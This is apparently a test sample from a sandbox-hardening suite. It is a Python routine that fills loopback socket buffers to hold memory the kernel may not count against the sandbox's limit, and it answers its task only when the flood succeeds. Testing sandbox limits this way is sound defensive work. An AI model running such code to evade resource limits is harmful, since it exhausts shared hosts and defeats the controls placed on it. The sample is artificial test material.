# attack: fills the buffers of connections to itself, which the kernel may count apart from a sample's memory
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: the buffers of its connections have a limit below that of its memory
import socket


def flood():
    held = 0
    kept = []
    wanted = __LIMIT_MEMORY_MIB__ << 20
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    try:
        while held < wanted and len(kept) < 3000:
            one = socket.create_connection(server.getsockname(), timeout=1)
            other, _ = server.accept()
            kept += [one, other]
            for end in (one, other):
                end.setblocking(False)
                try:
                    while True:
                        held += end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        return False
    return held >= wanted


WON = flood()


def task_func(n):
    return n * 2 if WON else None
